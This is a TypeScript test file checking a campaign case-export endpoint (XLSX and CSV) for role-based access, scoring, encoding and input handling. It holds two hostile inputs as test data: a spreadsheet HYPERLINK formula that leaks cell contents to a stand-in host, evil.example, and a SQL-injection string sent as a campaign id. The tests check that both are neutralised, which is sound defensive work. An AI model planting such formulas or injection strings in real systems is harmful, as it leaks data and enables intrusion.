import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { publishables } from '../helpers/editorialFixtures'
import { csvRows, download, xlsxRows } from '../helpers/exportDownload'
import { loginAs } from '../helpers/loginAs'
import { missingId } from '../helpers/missingId'
import type { RestClient } from '../helpers/rest'
import { TEST_PASSWORD, type Cast } from '../helpers/seedUsers'
import type { TestApp } from '../helpers/startPayload'
import { startWithCast } from '../helpers/startWithCast'

let app: TestApp
let rest: RestClient
let cast: Cast
let tokens: Record<string, string>
let reviewer2: string
let campaignId: number
const ids: Record<string, number> = {}

const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看")'
const scores = (n: number) => ({ typicality: n, innovation: n, effectiveness: n, replicability: n })
const caseTransition = { caseTransition: true }

const exportOf = (format: 'csv' | 'xlsx', token?: string) =>
  download(app, `/campaigns/${campaignId}/export?format=${format}`, token)

const byTitle = (rows: Record<string, ExcelJS.CellValue>[], title: string) =>
  rows.find((row) => row['案例名称'] === title)

beforeAll(async () => {
  ;({ app, rest, cast, tokens } = await startWithCast())
  const { region, image } = await publishables(app.payload, cast)
  const second = await app.payload.create({
    collection: 'users',
    data: { email: 'reviewer2@test.local', password: TEST_PASSWORD, roles: ['reviewer'] },
  })
  reviewer2 = await loginAs(rest, 'reviewer2@test.local')
  const campaign = await app.payload.create({
    collection: 'campaigns',
    data: { name: '福建足迹（2026）', year: 2026, caseCall: { expertWeight: 70, voteWeight: 30 } },
  })
  campaignId = campaign.id
  const both = [cast.users.reviewer.id, second.id]
  const add = async (key: string, data: Record<string, unknown>, votes = 0) => {
    const doc = await app.payload.create({
      collection: 'case-submissions',
      data: { campaign: campaign.id, type: '创新模式', organization: cast.units.a.id, ...data } as never,
      context: caseTransition,
    })
    if (votes > 0) {
      await app.payload.db.updateOne({ collection: 'case-submissions', id: doc.id, data: { votes: { $inc: votes } } })
    }
    ids[key] = doc.id
  }
  await add(
    'forest',
    {
      title: '森林生态银行',
      region: region.id,
      photos: [image.id],
      intake: { channel: 'recommended', recommender: '南平市林业局' },
      contactPerson: '林一',
      phone: '0599-7822222',
      email: 'lin@example.cn',
      assignedReviewers: both,
      status: 'shortlisted',
    },
    30,
  )
  await add('hostile', { title: HOSTILE_TITLE, assignedReviewers: both, status: 'shortlisted' }, 10)
  await add('draft', { title: '尚未提交的草稿', assignedReviewers: both, status: 'draft' })
  await add('submitted', { title: '待初审的案例', organization: cast.units.b.id, status: 'submitted' })
  await add('published', { title: '已评优的案例', status: 'excellent' })
  const elsewhere = await app.payload.create({ collection: 'campaigns', data: { name: '另一活动', year: 2025 } })
  await app.payload.create({
    collection: 'case-submissions',
    data: { campaign: elsewhere.id, title: '别的活动的案例', type: '创新模式', status: 'shortlisted' },
    context: caseTransition,
  })
  // Submitted at 16:30 UTC: half past midnight on 1 April in Beijing.
  await app.payload.create({
    collection: 'audit-events',
    data: { case: ids.submitted, from: 'draft', to: 'submitted', at: '2026-03-31T16:30:00.000Z' },
  })
  for (const [token, caseId, score] of [
    [tokens.reviewer, ids.forest, 8],
    [reviewer2, ids.forest, 6],
    [reviewer2, ids.hostile, 9],
  ] as const) {
    const review = await rest.post('/case-reviews', { token, json: { case: caseId, scores: scores(score) } })
    expect(review.status).toBe(201)
  }
})
afterAll(() => app?.close())

describe('case export', () => {
  it('gives an editor every case of the campaign with status, scores, votes and contact, as XLSX', async () => {
    const res = await exportOf('xlsx', tokens.editor)
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toContain('spreadsheetml.sheet')
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="campaign-${campaignId}-cases.xlsx"; ` +
        `filename*=UTF-8''${encodeURIComponent('福建足迹（2026）-案例.xlsx')}`,
    )
    const { sheet, header, rows } = await xlsxRows(res.body)
    expect(sheet.getRow(1).font?.bold).toBe(true)
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    expect(header.slice(-3)).toEqual(['联系人', '联系电话', '电子邮箱'])
    expect(rows.map((row) => row['编号'])).toEqual([ids.forest, ids.hostile, ids.draft, ids.submitted, ids.published])
    expect(byTitle(rows, '森林生态银行')).toMatchObject({
      地区: '永安市',
      申报单位: '测试单位甲',
      报送渠道: '单位推荐',
      推荐单位: '南平市林业局',
      状态: '入围',
      评审数: 2,
      典型性: 7,
      专家平均分: 7,
      网络投票数: 30,
      联系人: '林一',
      联系电话: '0599-7822222',
      电子邮箱: 'lin@example.cn',
    })
    expect(byTitle(rows, '尚未提交的草稿')).toMatchObject({ 状态: '草稿', 评审数: 0, 综合得分: null })
    expect(byTitle(rows, '待初审的案例')).toMatchObject({
      状态: '已提交',
      申报单位: '测试单位乙',
      提交时间: '2026-04-01 00:30',
    })
    expect(byTitle(rows, '已评优的案例')).toMatchObject({ 状态: '优秀案例' })
  })

  it('scores cases exactly as the ranking does', async () => {
    const ranking = await rest.get(`/campaigns/${campaignId}/ranking`, { token: tokens.editor })
    const { rows } = await xlsxRows((await exportOf('xlsx', tokens.editor)).body)
    expect(ranking.data.cases).toHaveLength(2)
    for (const ranked of ranking.data.cases) {
      const row = rows.find((candidate) => candidate['编号'] === ranked.id)
      expect(row?.['综合得分']).toBe(ranked.score)
    }
    // 7/10 × 70 + 30/40 × 30
    expect(byTitle(rows, '森林生态银行')?.['综合得分']).toBe(71.5)
  })

  it('keeps a formula in a title inert', async () => {
    const { sheet, rows } = await xlsxRows((await exportOf('xlsx', tokens.editor)).body)
    const cell = sheet.getRow(rows.findIndex((row) => row['编号'] === ids.hostile) + 2).getCell(2)
    expect(cell.type).toBe(ExcelJS.ValueType.String)
    expect(cell.formula).toBeUndefined()
    expect(cell.value).toBe(`'${HOSTILE_TITLE}`)
    const csv = (await exportOf('csv', tokens.editor)).body.toString('utf8')
    expect(csv).toContain(`\r\n${ids.hostile},"'=HYPERLINK(""http://evil.example/?leak=""&A1,""点我查看"")",`)
  })

  it('writes the same rows as CSV, with a BOM so Excel reads the Chinese', async () => {
    const res = await exportOf('csv', tokens.editor)
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('content-disposition')).toContain(`filename="campaign-${campaignId}-cases.csv"`)
    expect([...res.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(res.body.toString('utf8')).toMatch(/^\uFEFF编号,案例名称,[^\n]*\r\n/)
    const csv = await csvRows(res.body)
    const { header, rows } = await xlsxRows((await exportOf('xlsx', tokens.editor)).body)
    expect(csv[0]).toEqual(header)
    expect(csv.slice(1)).toEqual(rows.map((row) => header.map((name) => String(row[name] ?? ''))))
  })

  it('gives a reviewer only their assigned cases, no drafts, no contact, and only the scores they may see', async () => {
    const res = await exportOf('xlsx', tokens.reviewer)
    expect(res.status).toBe(200)
    const { header, rows } = await xlsxRows(res.body)
    expect(header).not.toContain('联系人')
    expect(header).not.toContain('联系电话')
    expect(header).not.toContain('电子邮箱')
    expect(JSON.stringify(rows)).not.toContain('0599-7822222')
    expect(rows.map((row) => row['编号'])).toEqual([ids.forest, ids.hostile])
    // Scored it, so sees both reviews; has not scored the other, so sees none of its scores.
    expect(byTitle(rows, '森林生态银行')).toMatchObject({ 评审数: 2, 专家平均分: 7, 综合得分: 71.5 })
    expect(rows[1]).toMatchObject({ 评审数: 0, 专家平均分: null, 综合得分: null, 网络投票数: 10 })
    const other = await xlsxRows((await exportOf('xlsx', reviewer2)).body)
    expect(other.rows[1]).toMatchObject({ 评审数: 1, 专家平均分: 9, 综合得分: 70.5 })
  })

  it('refuses units and readers, unknown campaigns and unknown formats', async () => {
    const unit = await rest.get(`/campaigns/${campaignId}/export?format=csv`, { token: tokens.submitter })
    expect(unit.status).toBe(403)
    expect(unit.data.errors[0].message).toBe('Staff only')
    const anonymous = await rest.get(`/campaigns/${campaignId}/export?format=xlsx`)
    expect(anonymous.status).toBe(401)
    const missing = await rest.get(`/campaigns/${missingId(app.payload, 'campaigns')}/export?format=csv`, {
      token: tokens.editor,
    })
    expect(missing.status).toBe(404)
    expect(missing.data.errors[0].message).toBe('Campaign not found')
    const garbage = await rest.get(`/campaigns/${encodeURIComponent("1' OR 1=1 --")}/export`, { token: tokens.editor })
    expect(garbage.status).toBe(404)
    const pdf = await rest.get(`/campaigns/${campaignId}/export?format=pdf`, { token: tokens.editor })
    expect(pdf.status).toBe(400)
    expect(pdf.data.errors[0].message).toBe('Format must be csv or xlsx')
    expect(pdf.data.errors[0].data.errors[0].message).toBe('导出格式只能是 csv 或 xlsx。')
  })
})
